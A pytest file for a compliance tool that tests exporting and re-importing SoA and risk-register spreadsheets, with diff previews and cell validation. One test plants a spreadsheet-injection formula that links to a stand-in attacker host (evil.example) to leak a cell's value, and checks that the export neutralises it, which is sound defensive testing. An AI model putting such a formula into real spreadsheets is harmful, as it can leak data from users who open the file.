"""The spreadsheet round trip (issue 12): export the SoA, risk register, evidence register and AI-system
inventory as the import templates, edit, upload, preview exactly what changes, confirm, restore.

The export → import half runs on the example organisations' graphs directly; the web half runs on the
Flask test client with real principals (normgraph.access), as a signed-in editor would use it.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from rdflib import Graph, Literal, URIRef
from rdflib.compare import isomorphic

from normgraph.iri import NG, PREFIXES
from normgraph.orgdata.diff import plan
from normgraph.orgdata.errors import OrgDataError
from normgraph.orgdata.export import KINDS, export_rows, write_export
from normgraph.orgdata.templates import TEMPLATES

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ("hospital", "fintech")


@pytest.fixture(scope="module")
def graphs() -> dict[str, Graph]:
    return {slug: Graph().parse(ROOT / "data" / "examples" / f"{slug}.ttl") for slug in EXAMPLES}


def _write(tmp_path: Path, kind: str, fmt: str, rows: list[dict[str, str]]) -> Path:
    path = tmp_path / f"{kind}.{fmt}"
    path.write_bytes(write_export(rows, kind, fmt))
    return path


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", list(KINDS))
@pytest.mark.parametrize("slug", EXAMPLES)
def test_unchanged_export_imports_to_the_same_graph(graphs: dict[str, Graph], tmp_path: Path, slug: str, kind: str,
                                                   fmt: str) -> None:
    g = graphs[slug]
    rows = export_rows(g, slug, kind)
    assert rows, f"{slug} has {kind} rows"
    result = plan(g, _write(tmp_path, kind, fmt, rows), slug, kind)
    assert isomorphic(result.new, g)
    assert result.diff.empty and result.diff.unchanged == len(rows)


def test_export_is_the_import_template(graphs: dict[str, Graph], tmp_path: Path) -> None:
    path = _write(tmp_path, "soa", "xlsx", export_rows(graphs["hospital"], "hospital", "soa"))
    wb = load_workbook(path)
    assert wb.sheetnames == ["soa", "columns"]
    data = list(wb["soa"].iter_rows(values_only=True))
    assert list(data[0]) == TEMPLATES["soa"].names
    assert len(data) == 1 + 131  # both Annex A sets: 93 + 38 controls
    assert ("iso27001", "A.5.1") in {(r[0], r[1]) for r in data[1:]}
    doc = list(wb["columns"].iter_rows(values_only=True))
    assert doc[0] == ("column", "required", "meaning") and [r[0] for r in doc[1:]] == TEMPLATES["soa"].names
    # the deliberate gaps stay visible in the export: H1 (A.5.6 excluded without a justification)
    a56 = next(r for r in data[1:] if r[1] == "A.5.6")
    assert a56[2] == "no" and not a56[4]


def test_two_edited_cells_are_the_whole_change(graphs: dict[str, Graph], tmp_path: Path) -> None:
    g = graphs["hospital"]
    path = _write(tmp_path, "soa", "xlsx", export_rows(g, "hospital", "soa"))
    wb = load_workbook(path)
    ws = wb["soa"]
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        if (row[0].value, row[1].value) == ("iso42001", "A.10.3"):
            row[header.index("implementation_status")].value = "implemented"
            row[header.index("implementing_measure")].value = "Supplier AI clauses signed in 2026"
    wb.save(path)
    result = plan(g, path, "hospital", "soa")
    d = result.diff
    assert not d.added and not d.removed and d.unchanged == 130
    assert [(c.key, [(x.column, x.old, x.new) for x in c.cells]) for c in d.changed] == [
        ("iso42001 A.10.3", [("implementation_status", "planned", "implemented"),
                             ("implementing_measure", next(r["implementing_measure"] for r in export_rows(g, "hospital", "soa")
                                                           if r["control"] == "A.10.3"),
                              "Supplier AI clauses signed in 2026")])]
    entry = URIRef(PREFIXES["ngorg"] + "hospital/soa/iso42001-A-10-3")
    assert (entry, NG.implementingMeasure, Literal("Supplier AI clauses signed in 2026", lang="en")) in result.new
    assert d.triples_added == d.triples_removed == 2
    # its label, written in Turtle, stays
    assert set(result.new.objects(entry, URIRef("http://www.w3.org/2000/01/rdf-schema#label"))) == set(
        g.objects(entry, URIRef("http://www.w3.org/2000/01/rdf-schema#label")))


def test_removed_and_added_rows(graphs: dict[str, Graph], tmp_path: Path) -> None:
    g = graphs["fintech"]
    rows = export_rows(g, "fintech", "risks")
    gone = rows[0]
    new = dict(rows[1], id="R-900", title="Model card not published", likelihood="2", impact="3", inherent_score="")
    result = plan(g, _write(tmp_path, "risks", "csv", [*rows[1:], new]), "fintech", "risks")
    assert [r["id"] for r in result.diff.removed] == [gone["id"]]
    assert [r["id"] for r in result.diff.added] == ["R-900"]
    assert not result.diff.changed
    base = PREFIXES["ngorg"] + "fintech/"
    assert (URIRef(base + "risk/" + gone["id"]), None, None) not in result.new
    assert (URIRef(base + "treatment/" + gone["id"]), None, None) not in result.new  # its treatment went with it
    assert (URIRef(base + "risk/R-900"), NG.inherentScore, Literal(6)) in result.new


def test_csv_cells_that_look_like_formulas_are_neutralised_and_read_back(graphs: dict[str, Graph],
                                                                         tmp_path: Path) -> None:
    g = Graph()
    g += graphs["fintech"]
    risk = URIRef(PREFIXES["ngorg"] + "fintech/risk/R-001")
    title = '=HYPERLINK("http://evil.example/?"&A3,"open")'
    g.set((risk, URIRef("http://www.w3.org/2000/01/rdf-schema#label"), Literal(title, lang="en")))
    rows = export_rows(g, "fintech", "risks")
    text = write_export(rows, "risks", "csv").decode()
    cells = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}
    assert cells["R-001"]["title"] == "'" + title
    xlsx = _write(tmp_path, "risks", "xlsx", rows)
    ws = load_workbook(xlsx)["risk-register"]
    cell = next(r[1] for r in ws.iter_rows(min_row=2) if r[0].value == "R-001")
    assert cell.data_type == "s" and cell.value == title  # text, never a live formula
    for fmt in ("csv", "xlsx"):
        result = plan(g, _write(tmp_path, "risks", fmt, rows), "fintech", "risks")
        assert result.diff.empty and isomorphic(result.new, g)
    edited = [dict(r, residual_score="3") if r["id"] == "R-001" else r for r in rows]
    result = plan(g, _write(tmp_path, "risks", "csv", edited), "fintech", "risks")
    assert (risk, URIRef("http://www.w3.org/2000/01/rdf-schema#label"), Literal(title, lang="en")) in result.new


def test_a_bad_cell_names_file_sheet_row_and_column(graphs: dict[str, Graph], tmp_path: Path) -> None:
    g = graphs["hospital"]
    rows = export_rows(g, "hospital", "risks")
    rows[2] = dict(rows[2], likelihood="7")
    path = _write(tmp_path, "risks", "xlsx", rows)
    with pytest.raises(OrgDataError) as e:
        plan(g, path, "hospital", "risks")
    assert (e.value.sheet, e.value.row, e.value.column) == ("risk-register", 4, "likelihood")
    assert "7 is outside 1–5" in str(e.value) and "sheet 'risk-register'" in str(e.value)
    with pytest.raises(OrgDataError, match="this is a risk-register table, not soa"):
        plan(g, path, "hospital", "soa")


def test_a_kept_row_may_hold_what_validation_reports(graphs: dict[str, Graph], tmp_path: Path) -> None:
    """F7: fintech's R-009 has likelihood 6. Unchanged, the row comes back as it was; edited, the importer
    checks it like any other row."""
    g = graphs["fintech"]
    rows = export_rows(g, "fintech", "risks")
    assert next(r for r in rows if r["id"] == "R-009")["likelihood"] == "6"
    assert plan(g, _write(tmp_path, "risks", "csv", rows), "fintech", "risks").diff.empty
    edited = [dict(r, title="Edited") if r["id"] == "R-009" else r for r in rows]
    with pytest.raises(OrgDataError, match=r"likelihood.*6 is outside 1–5"):
        plan(g, _write(tmp_path, "risks", "csv", edited), "fintech", "risks")
